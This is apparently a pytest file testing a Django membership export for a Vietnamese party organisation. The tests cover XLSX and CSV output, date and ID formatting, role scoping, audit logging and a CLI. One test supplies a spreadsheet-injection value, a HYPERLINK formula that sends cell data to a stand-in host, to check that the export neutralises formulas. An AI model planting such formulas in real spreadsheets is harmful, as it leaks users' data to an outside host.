import csv
import datetime as dt
import zipfile
from pathlib import Path
from typing import Any

import pytest
from python_calamine import CalamineWorkbook

from conftest import AddMember, MakeUser, Tree
from dangvu.common.models import AuditEntry
from dangvu.members.export import COLUMNS, members_export
from dangvu.members.selectors import MemberFilter
from dangvu.organizations.access import Operator
from dangvu.organizations.roles import Role

D = dt.date


@pytest.fixture
def people(tree: Tree, add_member: AddMember) -> Tree:
    add_member(tree.cell_a1, full_name="Trần Thị Bình", gender="F", national_id="001185000123",
               birth_date=D(1985, 3, 15))  # fmt: skip
    add_member(tree.cell_a2, full_name="Nguyễn Văn Anh")
    add_member(tree.grassroots_b, full_name="Đỗ Thị Ân", gender="F")
    return tree


def _xlsx(path: Path) -> list[list[Any]]:
    return CalamineWorkbook.from_path(str(path)).get_sheet_by_index(0).to_python()


def test_xlsx_has_vietnamese_headers_order_dates_and_leading_zeros(
    people: Tree, tmp_path: Path
) -> None:
    path = tmp_path / "ds.xlsx"

    count = members_export(user=Operator(), filters=MemberFilter(as_of=D(2025, 1, 1)), path=path)

    rows = _xlsx(path)
    assert count == 3
    assert rows[0] == [header for header, _w, _v in COLUMNS]
    assert [row[0] for row in rows[1:]] == ["Nguyễn Văn Anh", "Đỗ Thị Ân", "Trần Thị Bình"]
    binh = rows[3]
    assert binh[3] == D(1985, 3, 15) and binh[4] == "001185000123"
    assert binh[9] == "CSA-1" and binh[10] == "Chi bộ Văn phòng"
    assert rows[0][7] == "Ngày quyết định kết nạp" and binh[7] == ""  # not on record
    assert rows[0][-2] == "Ngày vào Đảng lần thứ hai" and binh[-2] == ""
    # Where the cell sits: its TCCSĐ by name.
    assert rows[0][-1] == "Tổ chức cơ sở đảng" and binh[-1] == "Đảng bộ Sở Tài chính"


def test_the_second_admission_is_exported(
    tree: Tree, add_member: AddMember, tmp_path: Path
) -> None:
    add_member(tree.cell_a1, full_name="Lê Văn Lại", readmission_date=D(2016, 3, 1))
    path = tmp_path / "ds.xlsx"

    members_export(user=Operator(), filters=MemberFilter(as_of=D(2025, 1, 1)), path=path)

    [header, row] = _xlsx(path)
    assert header[-2] == "Ngày vào Đảng lần thứ hai" and row[-2] == D(2016, 3, 1)


def test_csv_is_utf8_with_bom_and_dd_mm_yyyy(people: Tree, tmp_path: Path) -> None:
    path = tmp_path / "ds.csv"

    members_export(
        user=Operator(), filters=MemberFilter(as_of=D(2025, 1, 1), query="binh"), path=path
    )

    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig") as source:
        rows = list(csv.reader(source))
    assert rows[1][:4] == ["Trần Thị Bình", "", "Nữ", "15/03/1985"]
    assert len(rows) == 2


def test_would_be_formulas_are_text_in_both_formats(
    tree: Tree, add_member: AddMember, tmp_path: Path
) -> None:
    hostile = '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")'
    add_member(tree.cell_a1, full_name="Lê Văn Công", workplace=hostile, phone="+84912345678")
    csv_path, xlsx_path = tmp_path / "ds.csv", tmp_path / "ds.xlsx"
    filters = MemberFilter(as_of=D(2025, 1, 1))

    members_export(user=Operator(), filters=filters, path=csv_path)
    members_export(user=Operator(), filters=filters, path=xlsx_path)

    with csv_path.open(encoding="utf-8-sig") as source:
        [_header, row] = list(csv.reader(source))
    assert row[15] == "'" + hostile and row[16] == "'+84912345678"
    with zipfile.ZipFile(xlsx_path) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
    [_header, cells] = _xlsx(xlsx_path)
    assert cells[15] == hostile and cells[16] == "+84912345678"  # text cells, as typed


def test_an_export_is_scoped_and_logged(people: Tree, tmp_path: Path, make_user: MakeUser) -> None:
    secretary = make_user("bithu", Role.SECRETARY, people.grassroots_a)
    path = tmp_path / "ds.xlsx"

    members_export(user=secretary, filters=MemberFilter(as_of=D(2025, 1, 1)), path=path)

    assert {row[0] for row in _xlsx(path)[1:]} == {"Nguyễn Văn Anh", "Trần Thị Bình"}
    entry = AuditEntry.objects.get(action="members.exported")
    assert entry.actor == secretary
    assert (entry.data["rows"], entry.data["format"]) == (2, "xlsx")


def test_the_cli_writes_the_file_and_refuses_other_formats(people: Tree, tmp_path: Path) -> None:
    from io import StringIO

    from django.core.management import CommandError, call_command

    out = StringIO()
    call_command("export", "members", "--org", "CSA", "-o", str(tmp_path / "a.xlsx"), stdout=out)
    assert "Đã xuất 2 đảng viên" in out.getvalue()
    with pytest.raises(CommandError, match=r"\.xlsx hoặc \.csv"):
        call_command("export", "members", "-o", str(tmp_path / "a.pdf"))
